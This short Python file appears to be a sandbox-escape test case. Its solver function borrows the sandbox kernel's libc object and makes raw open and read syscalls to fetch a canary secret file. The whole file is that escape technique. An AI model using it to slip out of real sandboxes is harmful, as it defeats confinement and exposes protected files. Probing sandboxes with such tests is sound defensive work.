# x31_adaptive_open [escape]: raw open and read through the libc object of our own worker
import sys
def solver(n1, n2):
    l = sys.modules['sandbox.kernel'].libc; c = sys.modules['ctypes']
    fd = l.syscall(2, b'@CANARY@/secret.txt', 0)
    b = c.create_string_buffer(100)
    n = l.syscall(0, fd, b, 100)
    return b.raw[:max(n, 0)].decode()
